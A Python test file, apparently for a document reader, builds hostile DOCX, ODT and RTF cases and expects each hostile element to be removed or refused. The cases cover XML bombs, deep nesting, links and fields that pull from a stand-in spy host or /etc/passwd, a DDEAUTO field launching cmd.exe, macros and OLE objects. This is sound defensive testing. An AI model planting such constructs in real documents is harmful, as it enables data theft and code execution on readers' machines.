"""Hostile Word, OpenDocument and RTF files."""

from hostile.case import Taken, of_kind
from readers import office_files as make
from readers.office_files import docx, odt, text
from readers.test_office_hostile import CASES as KNOWN
from readers.test_office_hostile import LETTER

from kanttekening.domain.errors import RefusalCode

DAMAGED, ENCRYPTED, TOO_BIG, UNSUPPORTED, EMPTY = (
    RefusalCode.DAMAGED,
    RefusalCode.ENCRYPTED,
    RefusalCode.TOO_BIG,
    RefusalCode.UNSUPPORTED,
    RefusalCode.EMPTY,
)
CLEAN = Taken("Geachte raad,", gone=("spion", "root:"))


def known(*names):
    """Rows whose bytes and outcome stand in the readers' own tests."""
    return [
        (name, found if isinstance(found, RefusalCode) else Taken(found), KNOWN[name][0])
        for name in names
        for found in [KNOWN[name][1]]
    ]


def word_link(target):
    link = '<w:hyperlink r:id="rId7"><w:r><w:t>Geachte raad,</w:t></w:r></w:hyperlink>'
    return lambda: docx(make.para(link), ("rId7", "hyperlink", target, 1))


def word_picture(target):
    drawing = make.drawing("rId9").replace("r:embed", "r:link")
    return lambda: docx(LETTER + make.para(drawing), ("rId9", "image", target, 1))


def field(code):
    run = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"
    body = run.format("begin") + f"<w:r><w:instrText>{code}</w:instrText></w:r>" + run.format("end")
    return lambda: docx(LETTER + make.para(body))


def odt_link(target):
    return lambda: odt(text(f'<text:a xlink:href="{target}">Geachte raad,</text:a>'))


def odt_picture(target):
    frame = f'<draw:frame><draw:image xlink:href="{target}"/></draw:frame>'
    return lambda: odt(text(f"Geachte raad,{frame}"))


def rtf(body):
    return lambda: make.rtf(f"Geachte raad, {body}")


def rtf_field(code):
    return rtf(rf"{{\field{{\*\fldinst {code}}}{{\fldrslt hier}}}}")


def odt_locked():
    entry = "<manifest:encryption-data/></manifest:file-entry>"
    manifest = make.ODT_MANIFEST.replace('"/"/>', f'"content.xml">{entry}')
    return odt(
        text("x"), parts={"META-INF/manifest.xml": manifest, "content.xml": b"\x8a\x01" * 99}
    )


OFFICES = (
    *of_kind(
        "take all memory or time",
        *known(
            "bom in de tekst.docx", "bom van delen.docx", "bom met valse maat.docx", "bom.odt",
            "bom in stijlen.docx", "entiteiten.docx", "doctype.odt", "doctype.fodt",
            "doctype in utf-16.docx", "kaal doctype.docx", "300.000 kenmerken.docx",
            "groot kenmerk.docx", "te veel delen.docx", "plaatjesbom.docx",
            "reusachtig bedoeld plaatje.docx", "duizend kolommen.docx", "te groot.rtf",
        ),
        ("twee miljard spaties.odt", Taken("Geachte raad"), lambda: odt(
            text('Geachte raad<text:s text:c="2000000000"/>')
        )),
        ("miljoen cellen.odt", Taken("Geachte raad"), lambda: odt(
            text("Geachte raad") + '<table:table><table:table-row>'
            '<table:table-cell table:number-columns-repeated="1000000"><text:p>x</text:p>'
            "</table:table-cell></table:table-row></table:table>"
        )),
    ),
    *of_kind(
        "go round or very deep",
        *known(
            "diep.docx", "tabellen in tabellen.docx", "diep.odt", "diepe lijst.odt",
            "relatie met zichzelf.docx", "200.000 haken.rtf",
        ),
    ),
    *of_kind(
        "pull in from outside",
        *known(
            "bestand als entiteit.docx", "doctype in stijlen.docx", "relatie naar buiten.docx",
            "tekst van buiten.docx", "stijlen van buiten.docx", "pad omhoog.docx",
            "namen met paden.docx",
        ),
        ("plaat van het web.docx", CLEAN, word_picture("http://spion.example/a.png")),
        ("plaat uit bestand.docx", CLEAN, word_picture("file:///etc/passwd")),
        ("plaat van een deling.docx", CLEAN, word_picture(r"\\spion\deling\a.png")),
        ("veld met plaat.docx", CLEAN, field('INCLUDEPICTURE "http://spion.example/a.png"')),
        ("veld met tekst.docx", CLEAN, field('INCLUDETEXT "/etc/passwd"')),
        ("veld dat start.docx", CLEAN, field('DDEAUTO c:\\windows\\system32\\cmd.exe "/c spion"')),
        ("plaat van het web.odt", CLEAN, odt_picture("http://spion.example/a.png")),
        ("plaat uit bestand.odt", CLEAN, odt_picture("file:///etc/passwd")),
        ("plaat omhoog.odt", CLEAN, odt_picture("../../../etc/passwd")),
        ("veld met plaat.rtf", Taken("Geachte raad", gone=("spion",)), rtf_field(
            'INCLUDEPICTURE "http://spion.example/a.png"'
        )),
        ("sjabloon van ver.rtf", Taken("Geachte raad", gone=("spion",)), rtf(
            r"{\*\template http://spion.example/x.dotm}"
        )),
    ),
    *of_kind(
        "lead elsewhere",
        ("koppeling.docx", Taken("Geachte raad,", links=("https://vng.nl/",)), word_link(
            "https://vng.nl/"
        )),
        ("koppeling naar bestand.docx", CLEAN, word_link("file:///etc/passwd")),
        ("koppeling naar deling.docx", CLEAN, word_link(r"\\spion\deling")),
        ("koppeling met script.docx", CLEAN, word_link("javascript:spion()")),
        ("koppeling naar bestand.odt", CLEAN, odt_link("file:///etc/passwd")),
        ("koppeling met script.odt", CLEAN, odt_link("vnd.sun.star.script:spion")),
    ),
    *of_kind(
        "act by itself",
        ("macro.docm", Taken("Geachte raad,", gone=("Shell",)), lambda: docx(
            LETTER, parts={"word/vbaProject.bin": b"Shell"}
        )),
        ("object.rtf", Taken("Geachte raad", gone=("d0cf11",)), rtf(
            r"{\object\objautlink\objupdate{\*\objdata d0cf11e0a1b11ae1}}"
        )),
        ("ingesloten object.docx", CLEAN, lambda: docx(
            LETTER, ("rId8", "oleObject", "embeddings/o.bin"),
            parts={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0spion"},
        )),
    ),
    *of_kind(
        "be locked",
        *known("wachtwoord.docx", "delen op slot.docx"),
        ("wachtwoord.odt", ENCRYPTED, odt_locked),
    ),
    *of_kind(
        "be broken",
        *known(
            "andere compressie.docx", "half.docx", "afgekapt.odt", "bedorven.docx", "geen xml.docx",
            "andere wortel.docx", "zonder tekst.odt", "niets geschreven.docx", "half plaatje.docx",
            "vreemde getallen.docx", "groot getal.rtf", "alleen kop.rtf",
        ),
    ),
    *of_kind(
        "be something else",
        *known(
            "docx achter.doc", "rtf achter.doc", "html achter.doc", "oud.doc", "werkblad.xlsx",
            "rekenblad.ods",
        ),
    ),
)  # fmt: skip
